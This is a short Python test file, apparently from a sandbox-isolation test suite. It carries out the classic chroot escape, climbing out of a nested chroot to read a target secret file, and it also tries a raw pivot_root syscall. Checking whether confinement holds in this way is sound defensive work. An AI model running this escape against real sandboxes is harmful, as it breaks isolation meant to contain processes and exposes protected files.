# Leaves its root the classic way: a root below, then up.
# expects: ok
# holds: full process
import os

from attack import attempt, syscall, target


def leave():
    os.mkdir("below")
    os.chroot("below")
    os.chdir("../" * 32)
    os.chroot(".")
    return open(target["secret"]).read()


attempt("chroot", leave)
attempt("pivot_root", lambda: syscall(155, 41, b".", b"."))
